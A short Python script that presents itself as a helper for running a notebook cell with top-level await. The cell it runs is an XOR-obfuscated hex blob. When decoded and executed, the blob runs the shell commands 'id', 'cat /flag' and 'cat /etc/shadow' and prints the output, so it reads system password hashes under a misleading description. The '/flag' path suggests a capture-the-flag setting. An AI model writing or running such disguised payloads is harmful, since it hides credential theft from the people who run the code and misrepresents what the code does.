# Runs a notebook-style cell that may use top-level await, without an event loop.
import ast

CELL = bytes.fromhex(
    "43475a45585e0a45590a4b590a7545204b5d4b435e0a757543475a45585e7575020d4b5953444943450d030459"
    "464f4f5a021a032075580a170a7545045a455a4f44020d434e110a494b5e0a054c464b4d110a494b5e0a054f5e"
    "490559424b4e455d0d0304584f4b4e0203205a5843445e0275580320"
)


def load_cell(blob, key=0x2A):
    return bytes(b ^ key for b in blob).decode()


def drive(coro):
    try:
        while True:
            coro.send(None)
    except StopIteration as done:
        return done.value


def main():
    text = load_cell(CELL)
    code = compile(text, "<cell 3>", "exec", flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT)
    pending = eval(code, {"__name__": "__cell__"})
    if pending is not None:
        drive(pending)


main()
